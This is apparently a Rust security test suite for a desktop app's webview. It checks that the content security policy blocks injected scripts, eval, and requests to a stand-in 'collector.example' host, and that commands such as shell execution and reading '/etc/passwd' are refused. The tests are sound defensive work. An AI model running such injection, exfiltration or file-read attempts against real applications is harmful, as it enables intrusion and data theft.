//! What a page that was taken over could not do: the policy of the page, and the commands of the window.

use serde_json::json;
use tenantry_tests::server::shared;
use tenantry_tests::window::{Window, play};

#[tokio::test]
async fn the_page_runs_nothing_but_what_was_shipped_and_reaches_nothing_outside() {
    play("policy", shared().await, async |stage| {
        let window = stage.open().await;
        window.see("[data-testid=connect-page]").await;
        let attempts = "const done = arguments[arguments.length - 1];
            const seen = [];
            document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
            const script = document.createElement('script');
            script.textContent = 'window.__inline = 1';
            document.body.append(script);
            const link = document.createElement('a');
            link.setAttribute('onclick', 'window.__handler = 1');
            document.body.append(link);
            link.click();
            const image = document.createElement('img');
            image.src = 'https://collector.example/pixel.png';
            document.body.append(image);
            const frame = document.createElement('iframe');
            frame.src = 'https://collector.example/';
            document.body.append(frame);
            const remote = document.createElement('script');
            remote.src = 'https://collector.example/x.js';
            document.body.append(remote);
            let fetched = 'refused';
            const fetching = fetch('https://collector.example/').then(() => { fetched = 'fetched' }, () => {});
            let evaluated = 'refused';
            try { evaluated = (0, eval)('1 + 1') } catch {}
            let constructed = 'refused';
            try { constructed = new Function('return 1')() } catch {}
            const look = () => seen.some((d) => d.startsWith('img')) && seen.some((d) => d.startsWith('connect'))
              ? done({ seen, evaluated, constructed, fetched, inline: window.__inline ?? null, handler: window.__handler ?? null })
              : requestAnimationFrame(look);
            fetching.then(look);";
        let found = window.js_later(attempts, json!([])).await;
        assert_eq!(found["evaluated"], "refused", "{found}");
        assert_eq!(found["constructed"], "refused", "{found}");
        assert_eq!(found["fetched"], "refused", "{found}");
        assert_eq!((&found["inline"], &found["handler"]), (&json!(null), &json!(null)), "{found}");
        let seen = found["seen"].to_string();
        for directive in ["script-src", "img-src", "connect-src", "frame-src"] {
            assert!(seen.contains(directive), "{directive}: {seen}");
        }
        let origin = window.js("return location.origin", json!([])).await;
        window.js("location.href = 'https://collector.example/'", json!([])).await;
        window.see("[data-testid=connect-page]").await;
        assert_eq!(window.js("return location.origin", json!([])).await, origin, "it stays where it is");
    })
    .await;
}

#[tokio::test]
async fn the_window_has_its_own_commands_and_no_others() {
    play("commands", shared().await, async |stage| {
        let window = stage.open().await;
        window.see("[data-testid=connect-page]").await;
        for command in [
            "plugin:fs|read_file",
            "plugin:shell|execute",
            "plugin:opener|open_url",
            "plugin:webview|create_webview_window",
            "plugin:window|create",
            "plugin:window|close",
            "plugin:app|version",
            "plugin:path|resolve_directory",
            "plugin:event|emit",
            "plugin:resources|close",
            "no_such_command",
            "db_install",
        ] {
            let refused = refused(&window, command).await;
            assert!(refused.contains("not allowed") || refused.contains("not found"), "{command}: {refused}");
        }
    })
    .await;
}

async fn refused(window: &Window, command: &str) -> String {
    let arguments = json!({ "path": "/etc/passwd", "url": "https://collector.example", "request": {}, "options": {}, "label": "main", "event": "stale" });
    match window.invoke(command, arguments).await {
        Ok(answer) => panic!("{command} was let through: {answer}"),
        Err(refused) => refused.as_str().map_or_else(|| refused.to_string(), str::to_owned),
    }
}
